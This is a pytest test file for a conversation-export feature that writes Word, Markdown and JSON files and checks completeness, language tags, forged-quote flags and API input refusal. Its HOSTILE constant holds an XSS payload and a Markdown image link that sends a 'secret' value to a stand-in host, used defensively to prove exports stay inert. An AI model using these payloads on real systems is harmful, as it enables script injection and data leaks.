"""A conversation as a file: whole, proved, in the right language, and harmless."""

import datetime
import io
import json

import docx
import httpx
import pytest
from docx.oxml.ns import qn
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.answer import Answer
from assistant.texts import texts
from ui.export.conversation import Exchange, Feedback
from ui.export.docx import as_docx
from ui.export.files import file_of
from ui.export.markdown import as_markdown
from ui.export.outline import Block

MADE = datetime.date(2026, 11, 25)
HOSTILE = (
    "<img src=x onerror=alert(1)> ![x](https://x.example/?q=geheim) \x00\ud800 &amp; # *a* `b`"
)


@pytest.fixture(scope="module")
def conversation(assistant):
    """An answer with a footnote, one that is partial and English, and one for someone in danger."""
    asked = [
        "Wat zegt de brief over geweld tegen lhbtiq+ personen online?",
        "What will the police do in 2031?",
        "Ik word nu bedreigd door mijn buurman",
    ]
    judged = Feedback(verdict="bad", reason="incomplete", remark="Ik mis de *kosten*")
    first, *others = (Exchange(answer=assistant.ask(question)) for question in asked)
    return (first.model_copy(update={"feedback": judged}), *others)


def as_text(markdown):
    """What a reader of the file sees, a paragraph a line."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return ["".join(_seen(t) for t in token.children) for token in tokens if token.children]


def _seen(token):
    assert token.type in {"text", "text_special", "hardbreak", "strong_open", "strong_close"}
    return "\n" if token.type == "hardbreak" else token.content


def blocks_of_docx(content):
    return [(p.style.name, p.text) for p in docx.Document(io.BytesIO(content)).paragraphs]


def test_every_format_says_all_of_the_conversation(assistant, conversation):
    def made(kind):
        return file_of(conversation, kind, assistant.documents, "nl", MADE)

    word = blocks_of_docx(made("docx").content)
    read = {
        "docx": [text for _, text in word],
        "markdown": as_text(made("markdown").content.decode()),
    }
    for said in read.values():
        said = "\n".join(said)
        for exchange in conversation:
            answer = exchange.answer
            assert answer.question in said
            assert texts(answer.language, "web")[f"status_{answer.status}"] in said
            for citation in answer.citations:
                assert " ".join(citation.quote.split("\n")) in " ".join(said.split("\n"))
                assert citation.anchor in said
                assert all(note.text in said for note in citation.footnotes)
            assert all(gap in said for gap in answer.missing)
        assert "Kamerstuk 30 420, nr. 437, 10 december 2025" in said
        assert "25 november 2026" in said
        assert "Bel direct 112" in said
        assert "Nee, dit helpt niet. Er ontbreekt iets. Ik mis de *kosten*" in said
    styles = dict.fromkeys(style for style, _ in word)
    assert next(iter(styles)) == "Title"
    assert {"Heading 1", "Heading 2", "Quote", "Caption", "List Bullet"} <= set(styles)
    kept = json.loads(made("json").content)
    assert kept["exported"] == "2026-11-25"
    assert kept["documents"] == {"kst-30420-437": "Kamerstuk 30 420, nr. 437"}
    assert [Exchange.model_validate(e) for e in kept["exchanges"]] == list(conversation)


def test_the_languages_of_a_word_document_are_set(assistant, conversation):
    content = file_of(conversation, "docx", assistant.documents, "en", MADE).content
    document = docx.Document(io.BytesIO(content))
    assert document.core_properties.title == texts("en", "export")["title"]
    assert document.core_properties.language == "en-GB"
    assert document.styles.element.find(f".//{qn('w:lang')}").get(qn("w:val")) == "en-GB"
    quotes = [p for p in document.paragraphs if p.style.name == "Quote"]
    spoken = {run._r.rPr.find(qn("w:lang")).get(qn("w:val")) for p in quotes for run in p.runs}
    assert spoken == {"nl-NL"}


def test_a_quote_that_is_not_in_the_document_is_not_passed_off_as_one(assistant):
    answer = assistant.ask("Wat doet de politie in 2026?")
    forged = answer.citations[0].model_copy(update={"quote": "De politie wordt opgeheven."})
    forged = answer.model_copy(update={"citations": (forged, *answer.citations[1:])})
    for asked, altered in ((answer, 0), (forged, 1)):
        file = file_of([Exchange(answer=asked)], "markdown", assistant.documents, "nl", MADE)
        assert file.content.decode().count(texts("nl", "web")["altered"]) == altered
    gone = file_of([Exchange(answer=answer)], "markdown", {}, "nl", MADE).content.decode()
    assert texts("nl", "web")["absent_document"] in gone


@example("0 #")
@given(st.text(max_size=80) | st.text(alphabet="<>&\"'[]()!#*_`~|\\\\1.)-+= \n\t", max_size=80))
def test_any_text_shows_in_markdown_as_it_is_and_loads_nothing(text):
    kinds = ("title", "heading", "part", "text", "quote", "source", "item")
    blocks = [Block(kind, text, "nl", label) for kind in kinds for label in ("", text)]
    seen = "".join(as_text(as_markdown(blocks)))
    want = "".join(text.replace("\0", "\ufffd").split())
    assert "".join(seen.split()) == 21 * want


@given(st.text(st.characters(), max_size=80))
def test_any_text_can_stand_in_a_word_document(text):
    content = as_docx([Block("text", text, "nl", text)], "nl", MADE)
    assert len(blocks_of_docx(content)) == 1


def test_a_program_gets_a_file_and_its_errors_tell_nothing_back(address, caplog):
    with httpx.Client(base_url=f"{address}/api/v1") as api:
        answer = api.post("/ask", json={"question": HOSTILE.replace("\ud800", "")}).json()
        body = {"exchanges": [{"answer": answer}], "format": "docx", "language": "en"}
        made = api.post("/export", json=body)
        assert made.status_code == 200
        assert made.headers["cache-control"] == "no-store"
        assert made.headers["content-disposition"].startswith('attachment; filename="beleid')
        assert "![x](https://x.example/?q=geheim)" in str(blocks_of_docx(made.content))
        many = {**body, "exchanges": body["exchanges"] * 101}
        wrong = {**body, "exchanges": [{"answer": {**answer, "geheim": 1}}]}
        for refused in ({**body, "exchanges": []}, {**body, "format": "exe"}, many, wrong):
            sent = api.post("/export", json=refused)
            assert sent.status_code == 422
            assert "geheim" not in sent.text
        elsewhere = {"content-type": "text/plain"}
        assert api.post("/export", content=json.dumps(body), headers=elsewhere).status_code == 415
        large = api.post("/export", json={**body, "exchanges": ["x" * 1_100_000]})
        assert large.status_code == 413
    assert "geheim" not in caplog.text
    assert Answer.model_validate(answer).status
